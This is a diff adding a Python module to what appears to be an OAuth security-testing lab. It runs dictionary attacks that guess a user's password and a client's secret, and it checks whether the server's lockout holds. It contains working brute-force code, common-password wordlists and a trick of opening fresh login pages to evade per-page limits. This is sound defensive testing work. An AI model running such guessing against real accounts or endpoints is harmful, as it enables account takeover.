@@ -1,0 +1,187 @@
+"""Attack 7: guessing a user's password and a client's secret from a dictionary.
+
+RFC 6749 10.10: "The authorization server MUST prevent attackers from guessing
+access tokens, authorization codes, refresh tokens, resource owner passwords,
+and client credentials." Two defences work together: secrets nobody can guess
+(this server makes 28-character ones; RFC 9700 2.5 prefers keys to secrets),
+and a lockout that slows guessing down: after 10 wrong passwords for one user,
+or 20 wrong secrets for one client, in 15 minutes, every attempt is refused
+unchecked, with a message that says so. Lab switch: `no_throttle`.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Sequence
+
+from ..client import Page, client_authenticated_request
+from ..client._http import json_object
+from ._steps import authorization_url
+from .result import AttackResult, Unsupported
+from .scenario import TargetLike, as_target
+
+# A small dictionary of passwords people pick; the lab's victim chose one of them.
+COMMON_PASSWORDS = (
+    "123456", "password", "123456789", "12345678", "qwerty", "12345", "111111", "abc123",
+    "password1", "iloveyou", "admin", "welcome", "monkey", "dragon", "sunshine", "letmein",
+    "football", "princess", "qwerty123", "baseball", "master", "shadow", "superman",
+    "trustno1",
+)  # fmt: skip
+# Secrets developers type when a portal lets them choose one.
+COMMON_SECRETS = (
+    "client_secret", "changeme", "password", "123456", "admin", "test", "default", "oauth",
+    "oauth2", "demo", "sample", "12345678", "qwerty", "letmein", "welcome", "secret123",
+    "s3cr3t", "P@ssw0rd", "apikey", "api_secret", "clientsecret", "mysecret", "topsecret",
+    "supersecret", "secret", "hunter2",
+)  # fmt: skip
+SECTION = "RFC 6749 10.10, RFC 9700 2.5"
+_LOCKED = re.compile(r"too many|locked|try again (later|in)", re.IGNORECASE)
+
+
+def _locked_out(page: Page) -> bool:
+    return page.status == 429 or bool(_LOCKED.search(page.message))
+
+
+def guess_password(
+    target: TargetLike,
+    *,
+    username: str | None = None,
+    wordlist: Sequence[str] = COMMON_PASSWORDS,
+    per_page: int = 4,
+) -> AttackResult:
+    """Try each password of `wordlist` on the login page, a few per page.
+
+    A new login page is opened every `per_page` guesses, so a limit per page
+    (this server closes a page after 5 wrong passwords) does not stop the
+    attacker: only a lockout per user or per address does.
+    """
+    t = as_target(target)
+    username = username or t.victim.username
+    app = t.register()
+    tried: list[str] = []
+    found: str | None = None
+    lockout: Page | None = None
+    with t.browser() as browser:
+
+        def fresh_login_page() -> Page:
+            page = browser.open(authorization_url(t, app))
+            if page.login_form is None:
+                raise Unsupported(f"No login page to guess on: {page.describe()}")
+            return page
+
+        page: Page | None = None
+        for guess in wordlist:
+            if page is None or page.login_form is None or len(tried) % per_page == 0:
+                page = fresh_login_page()
+            page = browser.login(username, guess)
+            if _locked_out(page):
+                # perhaps only this page was closed: the same guess on a fresh page
+                fresh_login_page()
+                page = browser.login(username, guess)
+            tried.append(guess)
+            if page.kind in ("consent", "redirect"):
+                found = guess
+                break
+            if _locked_out(page):
+                lockout = page
+                break
+    steps = [
+        f"{t.attacker.username} tries {len(tried)} passwords from a dictionary for "
+        f"{username!r}, opening a new login page every {per_page} guesses"
+    ]
+    evidence: dict[str, object] = {"guesses": len(tried)}
+    if found is not None:
+        steps.append(f"guess {len(tried)} opens the account: {found!r}")
+        evidence["password found"] = found
+        what = (
+            f"The password was found after {len(tried)} guesses: nothing slowed the "
+            f"attacker down, and {username}'s account is hers."
+        )
+    elif lockout is not None:
+        steps.append(f"guess {len(tried)} is refused unchecked: {lockout.message}")
+        evidence["server said"] = f"{lockout.status} {lockout.message}"
+        what = (
+            f"The server locked the account after {len(tried) - 1} wrong passwords and "
+            f"refused the rest unchecked: {lockout.message}"
+        )
+    else:
+        steps.append("no guess worked")
+        what = f"None of the {len(tried)} guesses worked, and the server never locked out."
+    evidence["locked out"] = lockout is not None
+    return AttackResult(
+        "Password guessing",
+        found is not None,
+        what,
+        SECTION,
+        "Lockout per user and per address after repeated failures, with a clear message.",
+        tuple(steps),
+        evidence,
+    )
+
+
+def guess_client_secret(
+    target: TargetLike, *, client_id: str | None = None, wordlist: Sequence[str] = COMMON_SECRETS
+) -> AttackResult:
+    """Try each secret of `wordlist` for `client_id` at the token endpoint.
+
+    A wrong secret is 401 invalid_client (RFC 6749 5.2); the right one with a
+    made-up code gets past client authentication to invalid_grant.
+    """
+    t = as_target(target)
+    client_id = client_id or t.weak_client_id
+    if client_id is None:
+        raise Unsupported("No client to guess the secret of.")
+    token_endpoint = t.endpoints().token_endpoint
+    form = [
+        ("grant_type", "authorization_code"),
+        ("code", "made-up-code"),
+        ("redirect_uri", t.redirect_uri),
+    ]
+    tried = 0
+    found: str | None = None
+    lockout: str | None = None
+    with t.http() as http:
+        for guess in wordlist:
+            tried += 1
+            request = client_authenticated_request(token_endpoint, (client_id, guess), form)
+            response = http.send(request)
+            body = json_object(response) or {}
+            description = str(body.get("error_description", ""))
+            if response.status_code == 429 or "retry-after" in response.headers:
+                lockout = f"{response.status_code} {body.get('error', '')}: {description}"
+                break
+            if response.status_code != 401:
+                found = guess
+                break
+    steps = [
+        f"{t.attacker.username} sends token requests for client {client_id!r}, one "
+        "secret from a dictionary each"
+    ]
+    evidence: dict[str, object] = {"guesses": tried}
+    if found is not None:
+        steps.append(f"guess {tried} gets past client authentication: {found!r}")
+        evidence["secret found"] = found
+        what = (
+            f"The client secret was found after {tried} guesses; the attacker can now "
+            "redeem codes and refresh tokens as this client."
+        )
+    elif lockout is not None:
+        steps.append(f"guess {tried} is refused unchecked: {lockout}")
+        evidence["server said"] = lockout
+        what = (
+            f"The server stopped checking after {tried - 1} wrong secrets: {lockout} A "
+            "lockout only slows guessing down; the real fix is a secret nobody can guess."
+        )
+    else:
+        steps.append("no guess worked")
+        what = f"None of the {tried} guesses worked, and the server never locked out."
+    evidence["locked out"] = lockout is not None
+    return AttackResult(
+        "Client secret guessing",
+        found is not None,
+        what,
+        SECTION,
+        "Lockout per client and per address after repeated failures; long random secrets.",
+        tuple(steps),
+        evidence,
+    )
